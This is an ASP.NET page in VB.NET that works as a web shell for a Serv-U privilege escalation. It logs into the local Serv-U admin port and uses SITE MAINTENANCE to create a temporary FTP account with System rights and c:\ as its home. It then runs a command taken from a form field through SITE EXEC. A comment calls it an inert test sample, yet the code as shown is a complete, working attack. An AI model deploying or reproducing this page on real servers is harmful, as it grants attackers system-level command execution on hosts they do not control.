<%@ Page Language="VB" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.Text" %>
<%-- inert test sample: a Serv-U "maintenance" escalation page in VB.NET, values from form fields --%>
<script runat="server">
Private Sub Talk(ByVal s As Socket, ByVal line As String)
    Dim data As Byte() = Encoding.ASCII.GetBytes(line & vbCrLf)
    s.Send(data)
    Dim buf(511) As Byte
    s.Receive(buf)
End Sub

Protected Sub RunIt(ByVal sender As Object, ByVal e As EventArgs)
    Dim admin As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)
    admin.Connect("127.0.0.1", CInt(txtAdminPort.Value))
    Talk(admin, "USER " & txtLogin.Value)
    Talk(admin, "PASS " & txtSecret.Value)
    Talk(admin, "SITE MAINTENANCE")
    Talk(admin, "-SETUSERSETUP" & vbCrLf & "-IP=0.0.0.0" & vbCrLf & "-PortNo=" & txtFtpPort.Value & vbCrLf & "-User=tmpacct" & vbCrLf & "-Password=tmppw" & vbCrLf & "-HomeDir=c:\" & vbCrLf & "-Maintenance=System")
    Dim ftp As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)
    ftp.Connect("127.0.0.1", CInt(txtFtpPort.Value))
    Talk(ftp, "USER tmpacct")
    Talk(ftp, "PASS tmppw")
    Talk(ftp, "SITE EXEC " & txtCommand.Value)
    ftp.Close()
    admin.Close()
    lblDone.Text = "sent"
End Sub
</script>
<html><body><form runat="server">
<input id="txtAdminPort" runat="server" value="43958" />
<input id="txtLogin" runat="server" /><input id="txtSecret" runat="server" />
<input id="txtFtpPort" runat="server" value="2121" /><input id="txtCommand" runat="server" />
<asp:Button ID="btnRun" runat="server" Text="Go" OnClick="RunIt" /><asp:Label ID="lblDone" runat="server" />
</form></body></html>
